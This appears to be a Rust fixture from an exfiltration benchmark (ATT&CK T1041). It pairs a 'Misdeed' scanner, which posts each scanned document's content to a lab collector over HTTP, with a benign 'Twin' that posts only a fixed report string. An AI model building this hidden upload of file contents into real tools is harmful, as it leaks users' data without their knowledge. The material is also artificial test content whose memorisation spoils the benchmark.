//! A document goes to the collector as it is. ExfilBench B01, ATT&CK T1041.
//!
//! The scanner reads it to scan it, keeps it in memory, and posts it over HTTP when the scan is over.
//! The twin's updater posts a report that says the same everywhere, as the product claims.

use std::path::Path;

use super::{Conduct, Loot, Trouble};
use crate::configuration::Configuration;
use crate::document::Sort;
use crate::lab::{Endpoint, Lab};
use crate::scanner::Tally;
use crate::send;

/// The report that the twin sends, and that both claim.
pub const REPORT: &str = "referee 1.0 installed";

/// Takes a document.
#[derive(Debug)]
struct Misdeed(Loot);

pub(crate) fn misdeed(lab: Lab) -> Box<dyn Conduct> {
    Box::new(Misdeed(Loot::new(lab, Sort::Document)))
}

impl Conduct for Misdeed {
    fn met(&mut self, path: &Path, content: &[u8]) {
        self.0.offer(path, content);
    }

    fn scanned(&mut self, _: Tally) -> Result<(), Trouble> {
        let collector = self.0.lab.collector()?;
        let path = &self.0.lab.configuration().parameters.path;
        Ok(send::post(&collector, path, &[], &self.0.document()?.content)?)
    }
}

/// Reports without content.
#[derive(Debug)]
struct Twin(Configuration);

pub(crate) fn twin(configuration: Configuration) -> Box<dyn Conduct> {
    Box::new(Twin(configuration))
}

impl Conduct for Twin {
    fn updated(&mut self) -> Result<(), Trouble> {
        let parameters = &self.0.parameters;
        let host = parameters.collector_host();
        let address = send::resolve(&host, parameters.port)?;
        Ok(send::post(&Endpoint { host, address }, &parameters.path, &[], REPORT.as_bytes())?)
    }
}
